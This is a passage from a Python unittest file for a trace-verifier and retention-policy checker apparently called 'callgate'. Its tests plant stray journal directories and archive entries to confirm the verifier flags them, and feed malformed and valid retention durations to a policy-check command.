                self.refused.encode(), b"journal") for m in tf
                if m.name.startswith(self.refused + "/")}

    def run_verifier(self):
        return subprocess.run([sys.executable, VERIFIER, self.state, "--all"],
                              capture_output=True, text=True, timeout=60)

    def test_untouched_passes(self):
        v = self.run_verifier()
        self.assertEqual(v.returncode, 0, v.stdout + v.stderr)

    def test_a_journal_directory_fails(self):
        os.makedirs(os.path.join(self.state, "traces", "journal"))
        for n, data in self.pk.items():
            with open(os.path.join(self.state, "traces", "journal", n), "wb") as f:
                f.write(data)
        v = self.run_verifier()
        self.assertEqual(v.returncode, 1, v.stdout + v.stderr)
        self.assertIn("traces/journal: trace_not_in_journal", v.stdout)

    def test_a_journal_package_in_an_archive_fails(self):
        end = os.path.getsize(self.tar)
        with open(self.tar, "ab") as f:
            f.write(b"".join(member("journal/" + n, self.pk[n]) for n in sorted(self.pk)))
        with open(self.tar[:-4] + ".idx", "a") as f:
            f.write("journal %d\n" % end)
        v = self.run_verifier()
        self.assertEqual(v.returncode, 1, v.stdout + v.stderr)
        self.assertNotIn("Traceback", v.stdout + v.stderr)
        self.assertIn(".idx: journal: trace_not_in_journal", v.stdout)
        self.assertIn(":journal/", v.stdout)


class RetentionPolicy(unittest.TestCase):
    def test_bad_durations_are_refused(self):
        with open(os.path.join(ROOT, "etc", "callgate", "policy.yaml")) as f:
            base = f.read()
        tmp = cgtest.Daemon(admin=False)
        try:
            for bad in ("soon", "-1d", "1w", "99999d", "1.5h", "\"\""):
                path = os.path.join(tmp.tmp, "p.yaml")
                with open(path, "w") as f:
                    f.write(base + "\nevidence:\n  retention: %s\n" % bad)
                p = cli("policy", "check", path)
                self.assertNotEqual(p.returncode, 0, bad)
                self.assertIn("evidence.retention", p.stdout + p.stderr, bad)
            for good in ("0", "never", "30d", "12h", "90m", "3600", "45s"):
                with open(path, "w") as f:
                    f.write(base + "\nevidence:\n  retention: %s\n" % good)
                p = cli("policy", "check", path)
                self.assertEqual(p.returncode, 0, (good, p.stdout + p.stderr))
        finally:
            tmp.close()


if __name__ == "__main__":
    unittest.main()
